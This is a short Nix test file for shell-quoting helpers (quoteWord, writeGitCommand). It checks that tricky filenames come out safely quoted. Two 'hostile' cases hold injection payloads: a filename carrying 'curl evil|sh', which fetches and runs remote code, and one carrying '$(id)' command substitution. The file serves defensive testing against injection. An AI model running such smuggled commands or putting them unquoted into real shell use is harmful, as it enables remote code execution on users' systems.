{ messages, ... }:
let
  inherit (messages) commands;
in
{
  quoteWord = {
    plain = [ (commands.quoteWord "a/b-c_1.cpp") "a/b-c_1.cpp" ];
    empty = [ (commands.quoteWord "") "''" ];
    hostile = [ (commands.quoteWord "x;curl evil|sh;.cpp") "'x;curl evil|sh;.cpp'" ];
    quote = [ (commands.quoteWord "it's") "'it'\"'\"'s'" ];
    newline = [ (commands.quoteWord "a\nb") "'a\nb'" ];
  };
  writeGitCommand = {
    plain = [ (commands.writeGitCommand "answer/answer.cpp") "git add -N answer/answer.cpp" ];
    option = [ (commands.writeGitCommand "-o.cpp") "git add -N ./-o.cpp" ];
    hostile = [ (commands.writeGitCommand "$(id).cpp") "git add -N '$(id).cpp'" ];
  };
}
